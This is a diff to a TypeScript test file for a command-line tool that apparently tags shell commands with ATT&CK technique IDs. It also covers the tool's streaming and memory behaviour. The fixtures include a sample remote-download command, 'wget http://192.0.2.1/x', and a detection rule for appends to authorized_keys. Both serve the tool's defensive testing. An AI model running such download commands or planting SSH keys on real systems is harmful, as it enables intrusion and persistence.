@@ -3,23 +3,27 @@ import { spawn } from 'node:child_process';
 import { once } from 'node:events';
 import { createInterface } from 'node:readline';
 import { Readable } from 'node:stream';
-import { aFolder, aRuleFile, cleanUp, ROOT, ttp, Ttp } from './ttp';
+import { aFolder, aRuleFile, cleanUp, referenceRules, ROOT, ttp, Ttp } from './ttp';
 
 const ROW = '{"id":"row 1","commands":["true","wget http://192.0.2.1/x"]}\n';
 const EVENT = '{"source_kind":"command","source_id":"s#0","session_id":"s","payload":{"command_text":"wget http://192.0.2.1/x"}}\n';
 const AUTHORIZED_KEYS = aRuleFile('R0900', '>>.*authorized_keys');
 
 describe('ttp tag', () => {
+  let reference: readonly string[];
+  beforeAll(() => {
+    reference = ['--rules', referenceRules()];
+  });
   afterAll(cleanUp);
 
   it('prints the techniques of each command that has any, for rows and for tagger events', async () => {
-    const { code, stdout, stderr } = await ttp(['tag'], { stdin: ROW + EVENT });
+    const { code, stdout, stderr } = await ttp(['tag', ...reference], { stdin: ROW + EVENT });
     expect(stdout).toBe('{"id":"row 1","command_index":1,"technique_ids":["T1105"]}\n{"id":"s#0","command_index":0,"technique_ids":["T1105"]}\n');
     expect({ code, stderr }).toEqual({ code: 0, stderr: '' });
   });
 
   it('prints whole tags in wire names on request', async () => {
-    const { stdout } = await ttp(['tag', '--format', 'tags'], { stdin: EVENT });
+    const { stdout } = await ttp(['tag', '--format', 'tags', ...reference], { stdin: EVENT });
     expect(stdout.split('\n')).toHaveLength(2);
     expect(JSON.parse(stdout)).toMatchObject({
       source_kind: 'command',
@@ -41,7 +45,7 @@ describe('ttp tag', () => {
 
   it('takes the rules that ship where the working folder has none', async () => {
     const { code, stdout } = await ttp(['tag'], { stdin: ROW, cwd: aFolder() });
-    expect({ code, stdout }).toEqual({ code: 0, stdout: '{"id":"row 1","command_index":1,"technique_ids":["T1105"]}\n' });
+    expect({ code, stdout }).toEqual({ code: 0, stdout: expect.stringMatching(/^\{"id":"row 1","command_index":1,"technique_ids":\[.*"T1105".*\]\}\n$/) });
   });
 
   it('takes a directory of rules in the reference format, or one file', async () => {
@@ -72,24 +76,24 @@ describe('ttp tag', () => {
   it('leaves without a word when nobody reads on, even while stdin stays open', async () => {
     const rows = 'i=0; while [ $i -lt 20000 ]; do echo "$ROW"; i=$((i+1)); done; exec sleep 20';
     const script = `(${rows}) | { "$0" dist/tools/cli/main.js "$@"; echo "code $?" >&2; } | head -n 1`;
-    const run = new Ttp(['tag'], { program: ['/bin/sh', '-c', script, process.execPath], env: { ROW: EVENT.trim() } });
+    const run = new Ttp(['tag', ...reference], { program: ['/bin/sh', '-c', script, process.execPath], env: { ROW: EVENT.trim() } });
     expect(await run.says(/(code \d+)/)).toBe('code 0');
     for (const { pid, args } of run.descendants()) if (args === 'sleep 20') process.kill(pid);
     expect(await run.ended).toMatchObject({ stdout: '{"id":"s#0","command_index":0,"technique_ids":["T1105"]}\n', stderr: 'code 0\n' });
   });
 
   it('streams: two hundred thousand rows take no more memory than twenty thousand', async () => {
-    const few = await tagMany(20_000);
-    const many = await tagMany(200_000);
+    const few = await tagMany(20_000, reference);
+    const many = await tagMany(200_000, reference);
     expect([few.lines, many.lines]).toEqual([20_000, 200_000]);
     expect(many.rssKb - few.rssKb).toBeLessThan(60_000);
   });
 });
 
 /** Tags that many rows; answers how many lines came back, and the most memory that the process held. */
-async function tagMany(rows: number): Promise<{ readonly lines: number; readonly rssKb: number }> {
+async function tagMany(rows: number, rules: readonly string[]): Promise<{ readonly lines: number; readonly rssKb: number }> {
   const report = 'process.on("exit", () => process.stderr.write(String(process.resourceUsage().maxRSS)))';
-  const child = spawn(process.execPath, ['--import', `data:text/javascript,${encodeURIComponent(report)}`, 'dist/tools/cli/main.js', 'tag'], { cwd: ROOT });
+  const child = spawn(process.execPath, ['--import', `data:text/javascript,${encodeURIComponent(report)}`, 'dist/tools/cli/main.js', 'tag', ...rules], { cwd: ROOT });
   let rss = '';
   child.stderr.setEncoding('utf8').on('data', (text: string) => (rss += text));
   const batch = ROW.repeat(1_000);
